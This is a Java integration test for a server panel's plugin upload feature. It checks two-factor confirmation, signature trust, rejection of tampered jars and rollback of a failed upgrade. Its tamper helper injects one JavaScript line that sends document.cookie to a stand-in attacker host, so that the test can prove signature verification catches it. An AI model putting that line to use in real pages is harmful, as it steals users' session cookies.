package io.vessel.distribution;

import static io.vessel.distribution.PanelLifecycleIT.assertProblem;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.OutputStream;
import java.net.http.HttpRequest;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.jar.JarEntry;
import java.util.jar.JarInputStream;
import java.util.jar.JarOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Plugins installed and upgraded by upload: off by default; then only with a fresh second-factor code and a jar
 * signed by a trusted key; an upgrade that cannot start is rolled back while the previous version keeps serving.
 */
class PluginUploadIT {

    @Test
    void uploadsAreOffUnlessTheProviderTurnsThemOn(@TempDir Path work) throws Exception {
        try (PanelProcess panel = new PanelProcess(work, Map.of()).start()) {
            PanelProcess.Response refused = upload(panel, "POST", "/api/v1/plugins", HotDeployIT.PLUGIN, null);
            assertProblem(refused, 403, null);
            assertTrue(refused.json().get("detail").asText().contains("plugins.upload = true"), refused.body());
        }
    }

    @Test
    void signedUploadsWithAFreshSecondFactorInstallAndAFailedUpgradeRollsBack(@TempDir Path work) throws Exception {
        Path keys = Files.createDirectories(work.resolve("keys"));
        NotificationsIT.keytool("-genkeypair", "-alias", "vendor", "-keyalg", "RSA", "-keysize", "2048", "-dname", "CN=Plugin Vendor", "-validity", "2",
                "-keystore", keys.resolve("vendor.p12").toString(), "-storepass", "changeit", "-storetype", "PKCS12");
        NotificationsIT.keytool("-exportcert", "-rfc", "-alias", "vendor", "-keystore", keys.resolve("vendor.p12").toString(), "-storepass", "changeit",
                "-file", keys.resolve("trusted.pem").toString());
        NotificationsIT.keytool("-genkeypair", "-alias", "stranger", "-keyalg", "RSA", "-keysize", "2048", "-dname", "CN=Stranger", "-validity", "2",
                "-keystore", keys.resolve("stranger.p12").toString(), "-storepass", "changeit", "-storetype", "PKCS12");
        Path signed = sign(HotDeployIT.PLUGIN, keys.resolve("sample-signed.jar"), keys.resolve("vendor.p12"), "vendor");
        Path strangers = sign(HotDeployIT.PLUGIN, keys.resolve("sample-stranger.jar"), keys.resolve("stranger.p12"), "stranger");
        Path tampered = tamper(signed, keys.resolve("sample-tampered.jar"));
        Path misbehaving = sign(PluginsIT.MISBEHAVING, keys.resolve("misbehaving-1.jar"), keys.resolve("vendor.p12"), "vendor");
        Path broken = sign(PluginsIT.variant(PluginsIT.MISBEHAVING, keys.resolve("broken.jar"), m -> {
            m.putValue("Bundle-Version", "9.0.1");
            m.putValue("X-Vessel-Fixture-Fail", "activator");
        }), keys.resolve("misbehaving-broken.jar"), keys.resolve("vendor.p12"), "vendor");
        Path fixed = sign(PluginsIT.variant(PluginsIT.MISBEHAVING, keys.resolve("fixed.jar"), m -> m.putValue("Bundle-Version", "9.0.2")),
                keys.resolve("misbehaving-fixed.jar"), keys.resolve("vendor.p12"), "vendor");

        Path conf = Files.writeString(work.resolve("vessel.conf"), "plugins.upload = true\nplugins.trust = " + keys.resolve("trusted.pem") + "\n");
        try (PanelProcess panel = new PanelProcess(work, PanelProcess.env("VESSEL_CONF", conf.toString())).start()) {
            // code runs as root: the admin needs 2FA on the account, and confirms with a current code
            PanelProcess.Response no2fa = upload(panel, "POST", "/api/v1/plugins", signed, null);
            assertProblem(no2fa, 403, null);
            assertTrue(no2fa.json().get("detail").asText().contains("set up two-factor authentication"), no2fa.body());
            String secret = panel.post("/api/v1/me/2fa", "").json().get("secret").asText();
            assertEquals(200, panel.post("/api/v1/me/2fa/confirm", "{\"totp\":\"" + TenancyIT.totp(secret, Instant.now()) + "\"}").status());
            PanelProcess.Response unconfirmed = upload(panel, "POST", "/api/v1/plugins", signed, null);
            assertProblem(unconfirmed, 403, null);
            assertProblem(upload(panel, "POST", "/api/v1/plugins", signed, "000000"), 403, null);

            // the next step's code confirms; the confirmation then holds for a few minutes
            String code = TenancyIT.totp(secret, Instant.now().plusSeconds(30));
            PanelProcess.Response strangerUpload = upload(panel, "POST", "/api/v1/plugins", strangers, code);
            assertProblem(strangerUpload, 422, null);
            assertEquals("Plugin io.vessel.sample is refused: it is signed by a key this panel does not trust (plugins.signature = require).",
                    strangerUpload.json().get("detail").asText());
            PanelProcess.Response unsigned = upload(panel, "POST", "/api/v1/plugins", HotDeployIT.PLUGIN, null);
            assertEquals("Plugin io.vessel.sample is refused: it is not signed (plugins.signature = require).", unsigned.json().get("detail").asText());
            PanelProcess.Response tamperedUpload = upload(panel, "POST", "/api/v1/plugins", tampered, null);
            assertProblem(tamperedUpload, 422, null);
            assertTrue(tamperedUpload.json().get("detail").asText().contains("its signature does not match its content"), tamperedUpload.body());
            assertEquals("[]", panel.get("/api/v1/plugins").json().toString(), "nothing refused was installed");

            PanelProcess.Response installed = upload(panel, "POST", "/api/v1/plugins", signed, null);
            assertEquals(201, installed.status(), installed.toString());
            // (a full run once saw it RESOLVED after the installer's 20 s: what the panel logged of plugins then says why)
            assertEquals("ACTIVE", installed.json().get("state").asText(), installed.body() + "\n" + panel.output().lines()
                    .filter(l -> l.contains("lugin") || l.contains("fileinstall") || l.contains("global lock")).collect(java.util.stream.Collectors.joining("\n")));
            // its REST resources join the API when the API is next rebuilt, a moment later (a full run on a busy machine, two
            // panels starting beside it, once took over 5 s: the bound is the installer's own 20 s)
            PanelProcess.poll(java.time.Duration.ofSeconds(20), () -> panel.get("/api/v1/sample/hello").status() == 200, "the plugin's endpoint");
            assertProblem(upload(panel, "POST", "/api/v1/plugins", signed, null), 409, null);

            // an upgrade that cannot start is rolled back; the previous version keeps serving
            assertEquals(201, upload(panel, "POST", "/api/v1/plugins", misbehaving, null).status());
            String before = panel.get("/api/v1/plugins/io.vessel.misbehaving").json().get("version").asText();
            PanelProcess.Response rolledBack = upload(panel, "PUT", "/api/v1/plugins/io.vessel.misbehaving", broken, null);
            assertProblem(rolledBack, 422, null);
            assertTrue(rolledBack.json().get("detail").asText().startsWith("Version 9.0.1 of io.vessel.misbehaving could not start (its activator failed"),
                    rolledBack.body());
            PluginsIT.awaitPlugin(panel, "io.vessel.misbehaving", "ACTIVE");
            assertEquals(before, panel.get("/api/v1/plugins/io.vessel.misbehaving").json().get("version").asText());
            // as a browser form sends it (multipart/form-data), too
            PanelProcess.Response upgraded = uploadForm(panel, "PUT", "/api/v1/plugins/io.vessel.misbehaving", fixed);
            assertEquals(200, upgraded.status(), upgraded.toString());
            assertEquals("9.0.2", upgraded.json().get("version").asText());
            assertEquals("ACTIVE", upgraded.json().get("state").asText());
            assertProblem(upload(panel, "PUT", "/api/v1/plugins/io.vessel.misbehaving", signed, null), 422, null);

            JsonNode audit = panel.get("/api/v1/audit?action=plugins").json();
            assertTrue(audit.toString().contains("\"status\":201"), "uploads are in the audit log: " + audit);
        }
    }

    private static PanelProcess.Response uploadForm(PanelProcess panel, String method, String path, Path jar) throws Exception {
        String boundary = "----vessel" + System.nanoTime();
        java.io.ByteArrayOutputStream body = new java.io.ByteArrayOutputStream();
        body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nupgrade\r\n--" + boundary
                + "\r\nContent-Disposition: form-data; name=\"jar\"; filename=\"" + jar.getFileName() + "\"\r\nContent-Type: application/java-archive\r\n\r\n")
                .getBytes(java.nio.charset.StandardCharsets.UTF_8));
        body.writeBytes(Files.readAllBytes(jar));
        body.writeBytes(("\r\n--" + boundary + "--\r\n").getBytes(java.nio.charset.StandardCharsets.UTF_8));
        return panel.send(HttpRequest.newBuilder(panel.uri(path)).header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .method(method, HttpRequest.BodyPublishers.ofByteArray(body.toByteArray())));
    }

    static PanelProcess.Response upload(PanelProcess panel, String method, String path, Path jar, String code) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(panel.uri(path)).header("Content-Type", "application/java-archive")
                .method(method, HttpRequest.BodyPublishers.ofFile(jar));
        if (code != null) {
            request.header("Vessel-Second-Factor", code);
        }
        return panel.send(request);
    }

    private static Path sign(Path jar, Path out, Path keystore, String alias) throws Exception {
        run(Path.of(System.getProperty("java.home"), "bin", "jarsigner").toString(), "-keystore", keystore.toString(), "-storepass", "changeit",
                "-signedjar", out.toString(), jar.toString(), alias);
        return out;
    }

    /** The signed jar with one file's content changed after signing. */
    private static Path tamper(Path signed, Path out) throws Exception {
        try (JarInputStream in = new JarInputStream(Files.newInputStream(signed)); OutputStream file = Files.newOutputStream(out);
             JarOutputStream jar = new JarOutputStream(file, in.getManifest())) {
            for (JarEntry entry = in.getNextJarEntry(); entry != null; entry = in.getNextJarEntry()) {
                jar.putNextEntry(new JarEntry(entry.getName()));
                byte[] content = in.readAllBytes();
                if (entry.getName().equals("ui/greetings.js")) {
                    content = "fetch('https://evil.example/?'+document.cookie);".getBytes();
                }
                jar.write(content);
                jar.closeEntry();
            }
        }
        return out;
    }

    private static void run(String... command) throws Exception {
        Process p = new ProcessBuilder(command).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes());
        assertEquals(0, p.waitFor(), String.join(" ", command) + ": " + out);
    }
}
